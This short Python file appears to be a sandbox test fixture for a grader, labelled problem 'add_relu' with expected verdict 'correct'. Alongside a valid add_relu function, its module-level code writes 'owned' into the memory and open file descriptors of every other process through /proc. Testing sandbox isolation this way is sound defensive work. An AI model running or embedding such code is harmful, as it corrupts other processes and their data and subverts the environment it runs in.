"""It writes into the memory and descriptors of others through /proc.

problem: add_relu
expect: correct
"""

import contextlib
import glob
import os

import torch

for path in [*glob.glob("/proc/[0-9]*/mem"), *glob.glob("/proc/[0-9]*/fd/*")]:
    if path.split("/")[2] == str(os.getpid()):
        continue
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_RDWR)
        os.write(fd, b"owned")


def add_relu(x, y):
    return torch.relu(x + y)
